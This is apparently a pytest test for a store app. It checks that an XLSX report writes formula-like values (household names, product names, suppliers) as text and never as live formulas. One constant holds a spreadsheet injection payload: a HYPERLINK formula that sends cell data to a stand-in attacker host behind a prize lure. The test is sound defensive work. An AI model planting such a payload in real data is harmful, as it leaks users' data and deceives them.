"""The store report's workbook holds data, never formulas: a name typed as =HYPERLINK(…) stays text."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import select

from tests.worlds.store import TODAY, attempt, build_shop
from webapp.core.periods import Period
from webapp.extensions import db
from webapp.people.models.household import Household
from webapp.people.models.user import User
from webapp.store.domain import CartLine
from webapp.store.models import Product, StockMovement
from webapp.store.services.reports import report_xlsx, store_report

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")'
KEYS = ("by_day", "by_product", "by_household", "stock", "movements", "issued")


def test_a_head_of_household_named_like_a_formula_is_written_as_text_in_the_store_report(make):
    """The household sheet shows the name exactly as typed, as a text cell; no sheet holds any formula."""
    shop = build_shop(make)
    db.session.scalar(select(Household).where(Household.code == shop.household)).head_name = LINK
    db.session.get(Product, shop.rice).name = "+1+1"
    db.session.scalar(select(StockMovement).where(StockMovement.product_id == shop.rice)).supplier = "@SUM(1,2)"
    db.session.commit()
    assert attempt(shop.clerk_id, shop, [CartLine(shop.rice, 1)]).redemption

    report = store_report(db.session.get(User, shop.clerk_id), shop.store_id, Period.whole_year(TODAY.year))
    data = report_xlsx(report, {k: [k.upper()] for k in KEYS}, {k: k for k in KEYS}, {"stock_in": "入库"})

    book = load_workbook(io.BytesIO(data))
    name = next(row[1] for row in book["by_household"].iter_rows(min_row=2) if row[0].value == shop.household)
    assert (name.value, name.data_type) == (LINK, "s")
    typed = [c for sheet in book for row in sheet.iter_rows() for c in row if str(c.value).startswith(("=", "+", "@"))]
    assert {c.value for c in typed} == {LINK, "+1+1", "@SUM(1,2)"}
    assert all(c.data_type == "s" and c.quotePrefix for c in typed)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any("<f>" in archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
